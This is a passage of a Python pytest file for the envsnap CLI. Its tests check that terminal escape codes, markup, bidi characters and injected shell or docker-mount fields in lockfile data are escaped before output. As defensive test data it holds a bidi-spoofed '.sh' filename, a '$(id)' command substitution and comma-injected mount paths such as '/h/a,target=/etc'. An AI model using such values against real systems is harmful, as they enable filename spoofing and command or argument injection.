    monkeypatch.setattr(lockfile, "load", lambda path, *a, **k: snaps[str(path)])


def assert_literal(out: str) -> None:
    assert "\x1b" not in out and "\x9b" not in out
    assert MARKUP in out and "x86_64[/]" in out


def test_show_prints_markup_literally(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
    loads(monkeypatch, {"x.lock": hostile_terminal_lock()})
    result = cli("show", "x.lock")
    assert result.code == 0, result
    assert_literal(result.out)


def test_check_prints_markup_literally(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
    loads(monkeypatch, {"x.lock": hostile_terminal_lock()})
    result = cli("check", "x.lock")
    assert result.code in (0, 1, 3), result
    assert "\x1b" not in result.out and "x86_64[/]" in result.out


def test_diff_strips_control_characters(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
    a = lock()
    b = with_package(a, 0, version="3.0.3" + ESC + MARKUP)
    from envsnap.compare import diff as diff_module

    # diff reads its files through a view of each lock (compare/diff.py): handed the hostile snapshots there.
    snaps = {"a.lock": a, "b.lock": b}

    def side(path: str) -> tuple[Snapshot, tuple[diff_module.PackageRow, ...], Callable[[], Snapshot]]:
        return snaps[path], tuple(map(diff_module.package_row, snaps[path].python.packages)), lambda: snaps[path]

    monkeypatch.setattr(diff_module, "_side", side)
    result = cli("diff", "a.lock", "b.lock")
    assert result.code == 1, result
    assert "\x1b" not in result.out and MARKUP in result.out


def test_errors_from_lock_data_reach_the_terminal_without_control_codes(
    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    def load(path: str, *args: Any, **kwargs: Any) -> Snapshot:
        raise LockfileError(f"{path}: bad name 'x{ESC}'")

    monkeypatch.setattr(lockfile, "load", load)
    result = cli("show", "x.lock")
    assert result.code == 2
    assert "\x1b" not in result.err and result.err.count("\n") == 1


def test_a_rebuild_plan_is_printed_without_control_codes(
    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import envsnap.rebuild
    from envsnap.rebuild.interface import PlanData

    class Shown(PlanData):
        blocks = frozenset({"Dockerfile"})  # a whole file, shown as a block (as the docker target's plan says)

        def display(self) -> dict[str, str]:
            return {"Dockerfile": "FROM x\nRUN " + ESC}

    plan = Plan(
        target="venv",
        lock_path="x.lock",
        dest="env",
        notes=("note " + ESC + MARKUP,),
        items=(PlanItem("python", "pkg" + ESC, "1.0"),),
        data=Shown(),
    )
    monkeypatch.setattr(envsnap.rebuild, "rebuild", lambda *a, **k: plan)  # the command imports it when it runs
    result = cli("rebuild", "x.lock", "--dry-run")
    assert result.code == 0, result
    assert "\x1b" not in result.out and MARKUP in result.out and "    | RUN " in result.out


def test_rich_progress_lines_are_text(capsys: pytest.CaptureFixture[str], wide: None) -> None:
    from envsnap.cli import _output

    err = _output.stderr()
    err.print("building x86_64[/] " + MARKUP + ESC)  # a plain string: the console's own net
    err.print(_output.text("wheel " + MARKUP + ESC))
    captured = capsys.readouterr().err
    assert "\x1b" not in captured and captured.count(MARKUP) == 2 and "x86_64[/]" in captured


def test_import_warnings_are_text(
    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, wide: None
) -> None:
    from envsnap import importers

    snap = lock(warnings=(MARKUP,))
    monkeypatch.setattr(importers, "read_file", lambda *a, **k: snap)
    result = cli("import", "x.txt", "-o", str(tmp_path / "out.lock"))
    assert result.code == 0, result
    assert MARKUP in result.err
    # A warning with a control character is no lock's (the importers check what they make): not written, and said
    # without it.
    snap = lock(warnings=(MARKUP + ESC,))
    result = cli("import", "x.txt", "-o", str(tmp_path / "esc.lock"))
    assert result.code == 2 and "\x1b" not in result.err and result.err.count("\n") == 1, result
    assert not (tmp_path / "esc.lock").exists()


@pytest.mark.parametrize("command", [("show", "--json"), ("export", "--format", "json", "-o", "-")])
def test_json_shows_no_free_text_reordered_or_broken(
    cli: Callable[..., Any], tmp_path: Path, command: tuple[str, ...]
) -> None:
    # show --json left U+2028/U+2029 raw (a pager breaks the line there) and export --format json every bidi
    # character too: envsnap.lock.json, opened in an editor or on a forge, showed "Debian <U+202E>..." reordered.
    os_name = "Debian " + UNSHOWN
    path = lockfile.dump(changed(full_lock(), "platform", os_name=os_name), tmp_path / "x.lock")
    result = cli(*command, path)
    assert result.code == 0, result
    assert not set(UNSHOWN) & set(result.out)
    assert json.loads(result.out)["platform"]["os_name"] == os_name  # the same JSON value, escaped


def test_json_output_escapes_c1_controls(capsys: pytest.CaptureFixture[str]) -> None:
    from envsnap.cli import _output

    _output.print_json({"name": "x\x9b31mred\x7f"})
    out = capsys.readouterr().out
    assert "\x9b" not in out and "\x7f" not in out
    assert json.loads(out) == {"name": "x\x9b31mred\x7f"}


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["echo", "a b"], "echo 'a b'"),
        (["printf", "\x1b[2J"], "printf $'\\x1b[2J'"),
        (["printf", "\ufffd[2J"], "printf '\ufffd[2J'"),
        (["rm", "x\u202egpj.sh"], "rm $'x\\u202egpj.sh'"),
        (["it's", "\\\n"], "'it'\"'\"'s' $'\\\\\\x0a'"),
        (["\udcff"], "$'\\xff'"),  # the byte os.fsdecode's escape stands for, as bash's $'...' writes it
        (["\ud800"], "$'\\ud800'"),
        (["\x9b", "\udc9b"], "$'\\u009b' $'\\x9b'"),  # a C1 control and the byte 0x9b, told apart
        (["python", "x\u2028y"], "python $'x\\u2028y'"),  # a line break to a terminal, inside one word
    ],
)
def test_a_command_is_shown_with_its_control_characters_escaped(argv: list[str], expected: str) -> None:
    shown = sinks.shell_shown(argv)
    assert shown == expected
    assert not grammar.has_control(shown) and not grammar.has_bidi(shown)


@pytest.mark.parametrize("name", ["/h/x,readonly=false", '/h/a"b', "/h/plain", "/h/a,target=/etc"])
def test_a_docker_mount_s_path_adds_no_field(name: str) -> None:
    # docker reads --mount as one CSV record: a name holding a comma would add a field (rerun --in-docker mounts
    # paths a record names).
    import csv

    value = sinks.docker_bind(name, name, readonly=True)
    assert next(csv.reader([value])) == ["type=bind", f"source={name}", f"target={name}", "readonly"]
    assert next(csv.reader([sinks.docker_bind(name, "/t", readonly=False)])) == [
        "type=bind", f"source={name}", "target=/t",
    ]  # fmt: skip
    with pytest.raises(sinks.UnsafeValue):
        sinks.docker_bind(name + "\r", "/t", readonly=True)


@pytest.mark.parametrize(
    "word",
    [
        "a'b",
        "'",
        'x"y',
        "plain",
        sinks.shell_assignment("K", "it's $(id) & 100%"),
        "A" * 40 + "='a b'",
        "A" * 7 + "--" + "B" * 30,
    ],
)
def test_a_latex_shell_word_keeps_every_character(word: str) -> None:
    """``tex_shell_word`` splits a word at its quotes to break it only where the shell joins it again: a quote that
    no other closes (not a word ``shell_word`` writes) is kept too, each character escaped as ``tex_text`` does."""
    shown = tex_typed(sinks.tex_shell_word(word))
    assert shown == tex_typed(sinks.tex_text(word)), shown
